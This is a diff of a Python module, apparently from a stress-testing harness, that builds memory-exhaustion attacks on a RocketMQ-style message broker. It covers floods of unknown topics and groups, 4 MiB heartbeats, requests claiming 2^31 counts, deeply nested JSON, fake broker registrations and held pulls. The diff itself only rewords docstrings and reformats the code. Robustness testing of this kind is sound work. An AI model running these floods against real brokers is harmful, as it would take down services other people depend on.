@@ -1,6 +1,6 @@
-"""Attacks that exhaust memory by valid requests: huge counts, floods of names, many held requests.
+"""Attacks that exhaust memory with valid requests: huge counts, floods of names, many held requests.
 
-Run by `attacker`. Each sends as much as its seconds allow and reads no more than it must.
+Run by `attacker`. Each sends as much as its seconds allow and reads no more than necessary.
 """
 
 import itertools
@@ -22,7 +22,7 @@ PIECE_BYTES = 1 << 20
 def flood(
     field: Field, frames: Iterable[bytes], connections: int = 4, to: Address | None = None
 ) -> AttackSockets:
-    """Say the frames, one after another on one connection of the crowd, and swallow answers, until time is up."""
+    """Send the frames, one after another on one of the connections, and discard responses, until time is up."""
     sockets = AttackSockets()
     sockets.join(to or field.broker, connections)
     until = time.monotonic() + field.seconds
@@ -36,14 +36,14 @@ def flood(
             each = sockets.members[next(turns) % len(sockets.members)] if sockets.members else None
             if each is None or time.monotonic() > until:
                 return sockets
-            sockets.say_one(each, b"".join(pending), until)
+            sockets.send_one(each, b"".join(pending), until)
             pending, size = [], 0
-    sockets.say_one(sockets.members[0], b"".join(pending), until)
+    sockets.send_one(sockets.members[0], b"".join(pending), until)
     return sockets
 
 
 def unknown_topics(field: Field) -> AttackSockets:
-    """Sends and pulls to topics that nobody knows, each another one."""
+    """Sends and pulls to unknown topics, each a different one."""
     return flood(
         field,
         (request(RequestCode.SEND_MESSAGE_V2, send_ext(f"Unknown{n}"), b"x") for n in itertools.count()),
@@ -51,7 +51,7 @@ def unknown_topics(field: Field) -> AttackSockets:
 
 
 def unknown_groups(field: Field) -> AttackSockets:
-    """Pulls, commits and heartbeats of groups that nobody knows."""
+    """Pulls, commits and heartbeats of unknown groups."""
 
     def frames() -> Iterable[bytes]:
         for n in itertools.count():
@@ -71,11 +71,14 @@ def beat(client: str, groups: list[str], subscriptions: int, expression: str = "
     ]
     consumers = [
         {
-            "groupName": group, "consumeType": "CONSUME_PASSIVELY", "messageModel": "CLUSTERING",
-            "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET", "subscriptionDataSet": topics,
+            "groupName": group,
+            "consumeType": "CONSUME_PASSIVELY",
+            "messageModel": "CLUSTERING",
+            "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET",
+            "subscriptionDataSet": topics,
         }
         for group in groups
-    ]  # fmt: skip
+    ]
     producers = [{"groupName": group} for group in groups]
     return json.dumps(
         {"clientID": client, "consumerDataSet": consumers, "producerDataSet": producers}
@@ -83,7 +86,7 @@ def beat(client: str, groups: list[str], subscriptions: int, expression: str = "
 
 
 def huge_heartbeats(field: Field) -> AttackSockets:
-    """Heartbeats of 4 MiB: a million subscriptions, thousands of groups, huge expressions; all the time."""
+    """Heartbeats of 4 MiB: a million subscriptions, thousands of groups, huge expressions; continuously."""
     bodies = (
         beat("subscriptions", ["Greedy"], 30_000),
         beat("groups", [f"Greedy{n}" for n in range(9_000)], 1),
@@ -95,18 +98,18 @@ def huge_heartbeats(field: Field) -> AttackSockets:
 
 
 def one_group(field: Field) -> AttackSockets:
-    """Everybody joins one group, again and again, and nobody listens to what it is told."""
+    """All connections join one group repeatedly, and none reads its notifications."""
     sockets = field.open_sockets(receive_bytes=4096)
     until = time.monotonic() + field.seconds
     for n, each in enumerate(sockets):
         if time.monotonic() > until:
             break
-        sockets.say_one(each, request(RequestCode.HEART_BEAT, body=beat(f"m{n}", ["OneGroup"], 1)), until)
+        sockets.send_one(each, request(RequestCode.HEART_BEAT, body=beat(f"m{n}", ["OneGroup"], 1)), until)
     return sockets
 
 
 def huge_queues(field: Field) -> AttackSockets:
-    """Topics with millions of queues, locks and commits of all of them, offsets of queues that are not."""
+    """Topics with millions of queues, locks and commits of all of them, offsets of queues that do not exist."""
 
     def frames() -> Iterable[bytes]:
         yield request(RequestCode.UPDATE_AND_CREATE_TOPIC, topic_ext("Millions", 2**31 - 1))
@@ -124,7 +127,7 @@ def huge_queues(field: Field) -> AttackSockets:
 
 
 def huge_counts(field: Field) -> AttackSockets:
-    """Headers and bodies whose counts promise more than anybody can hold."""
+    """Headers and bodies that declare larger counts than any process can hold."""
     most = struct.pack(">i", 2**31 - 1)
     binary = struct.pack(">hBhii", 310, 0, 1, 5, 0)
 
@@ -140,26 +143,47 @@ def huge_counts(field: Field) -> AttackSockets:
         request(RequestCode.SEND_BATCH_MESSAGE, send_ext("Counts", m="true"), most + bytes(100)),
         request(RequestCode.SEND_MESSAGE_V2, send_ext("Counts", i="k\x01v\x02" * 8000), b"x"),
         request(RequestCode.BATCH_ACK_MESSAGE, {}, b'{"acks":[' + b"{}," * 100_000 + b"{}]}"),
-        request(RequestCode.QUERY_MESSAGE, {"topic": "Background", "key": "k", "maxNum": "2147483647",
-                                            "beginTimestamp": "0", "endTimestamp": "9223372036854775807"}),
-        request(RequestCode.POP_MESSAGE, {"consumerGroup": "g", "topic": "Background", "queueId": "-1",
-                                          "maxMsgNums": "2147483647", "invisibleTime": "60000", "pollTime": "1",
-                                          "bornTime": "1", "initMode": "0"}),
+        request(
+            RequestCode.QUERY_MESSAGE,
+            {
+                "topic": "Background",
+                "key": "k",
+                "maxNum": "2147483647",
+                "beginTimestamp": "0",
+                "endTimestamp": "9223372036854775807",
+            },
+        ),
+        request(
+            RequestCode.POP_MESSAGE,
+            {
+                "consumerGroup": "g",
+                "topic": "Background",
+                "queueId": "-1",
+                "maxMsgNums": "2147483647",
+                "invisibleTime": "60000",
+                "pollTime": "1",
+                "bornTime": "1",
+                "initMode": "0",
+            },
+        ),
         request(RequestCode.HEART_BEAT, body=b"[" * 1_000_000),
         request(RequestCode.HEART_BEAT, body=b'{"a":' * 500_000),
-        request(RequestCode.UPDATE_AND_CREATE_TOPIC_LIST, body=b'{"topicConfigList":[' + b"{}," * 500_000 + b"{}]}"),
-    )  # fmt: skip
+        request(
+            RequestCode.UPDATE_AND_CREATE_TOPIC_LIST,
+            body=b'{"topicConfigList":[' + b"{}," * 500_000 + b"{}]}",
+        ),
+    )
     until = time.monotonic() + field.seconds
     while time.monotonic() < until:
         for frame in bad:
             sockets = field.open_sockets(10)
-            sockets.say(frame, within_s=2.0)
-            sockets.hang_up()
+            sockets.send(frame, within_s=2.0)
+            sockets.close()
     return AttackSockets()
 
 
 def held_pulls(field: Field) -> AttackSockets:
-    """Pulls that wait for news, with all that a pull may carry: long expressions, and a body that nobody asked for."""
+    """Pulls that are held, with everything a pull may carry: long expressions, and a body that is not needed."""
     long = "||".join(f"tag{n:05d}" for n in range(5000))
     bodies = (b"", bytes(1 << 20))
 
@@ -174,7 +198,7 @@ def held_pulls(field: Field) -> AttackSockets:
 
 
 def registrations(field: Field) -> AttackSockets:
-    """Brokers that are none, with as many topics as a registration may hold; keys and values without end."""
+    """Fake brokers, with as many topics as a registration may contain; keys and values without end."""
     table = {
         f"Fake{n}": {"topicName": f"Fake{n}", "perm": 6, "readQueueNums": 4, "writeQueueNums": 4}
         for n in range(20_000)
@@ -187,10 +211,14 @@ def registrations(field: Field) -> AttackSockets:
             wrapper = {"topicConfigSerializeWrapper": {"topicConfigTable": own, "dataVersion": version}}
             body = json.dumps(wrapper | {"filterServerList": []}).encode()
             ext = {
-                "brokerName": f"fake{n}", "brokerAddr": f"127.0.0.1:{n % 60000 + 1}", "clusterName": "Fake",
-                "haServerAddr": "h:1", "brokerId": "0", "compressed": "false",
+                "brokerName": f"fake{n}",
+                "brokerAddr": f"127.0.0.1:{n % 60000 + 1}",
+                "clusterName": "Fake",
+                "haServerAddr": "h:1",
+                "brokerId": "0",
+                "compressed": "false",
                 "bodyCrc32": str(zlib.crc32(body) & 0x7FFFFFFF),
-            }  # fmt: skip
+            }
             yield request(RequestCode.REGISTER_BROKER, ext, body)
             kv = {"namespace": f"N{n}", "key": f"k{n}", "value": "v" * 60_000}
             yield request(RequestCode.PUT_KV_CONFIG, kv)
@@ -199,7 +227,7 @@ def registrations(field: Field) -> AttackSockets:
 
 
 def same_opaque(field: Field) -> AttackSockets:
-    """All requests with one number, answers to nothing that was asked, and answers to what was."""
+    """All requests with one opaque, and responses to requests that were made and to others that were not."""
     send = request(RequestCode.SEND_MESSAGE_V2, send_ext("Opaque"), b"x", opaque=1)
     held = request(
         RequestCode.PULL_MESSAGE,
@@ -211,18 +239,31 @@ def same_opaque(field: Field) -> AttackSockets:
 
 
 def pops(field: Field) -> AttackSockets:
-    """Pops of groups that nobody knows, waiting and not, and acknowledgements of what was never given."""
+    """Pops of unknown groups, waiting and not, and acknowledgements of messages that were never popped."""
 
     def frames() -> Iterable[bytes]:
         for n in itertools.count():
             ext = {
-                "consumerGroup": f"P{n % 20_000}", "topic": "Background", "queueId": "-1", "maxMsgNums": "1",
-                "invisibleTime": "10000", "pollTime": "60000" if n % 2 else "0", "initMode": "1", "order": "false",
-                "bornTime": str(time.time_ns() // 1_000_000), "expType": "TAG", "exp": f"never{n}",
-            }  # fmt: skip
+                "consumerGroup": f"P{n % 20_000}",
+                "topic": "Background",
+                "queueId": "-1",
+                "maxMsgNums": "1",
+                "invisibleTime": "10000",
+                "pollTime": "60000" if n % 2 else "0",
+                "initMode": "1",
+                "order": "false",
+                "bornTime": str(time.time_ns() // 1_000_000),
+                "expType": "TAG",
+                "exp": f"never{n}",
+            }
             yield request(RequestCode.POP_MESSAGE, ext, bytes(10_000))
-            ack = {"consumerGroup": "P", "topic": "Background", "queueId": "0", "offset": str(n),
-                   "extraInfo": f"{n} 1 60000 0 0 b 0 {n}"}  # fmt: skip
+            ack = {
+                "consumerGroup": "P",
+                "topic": "Background",
+                "queueId": "0",
+                "offset": str(n),
+                "extraInfo": f"{n} 1 60000 0 0 b 0 {n}",
+            }
             yield request(RequestCode.ACK_MESSAGE, ack)
 
     return flood(field, frames())
@@ -231,7 +272,15 @@ def pops(field: Field) -> AttackSockets:
 EXHAUSTION: dict[str, Attack] = {
     each.__name__: each
     for each in (
-        unknown_topics, unknown_groups, huge_heartbeats, one_group, huge_queues, huge_counts, held_pulls,
-        registrations, same_opaque, pops,
+        unknown_topics,
+        unknown_groups,
+        huge_heartbeats,
+        one_group,
+        huge_queues,
+        huge_counts,
+        held_pulls,
+        registrations,
+        same_opaque,
+        pops,
     )
-}  # fmt: skip
+}
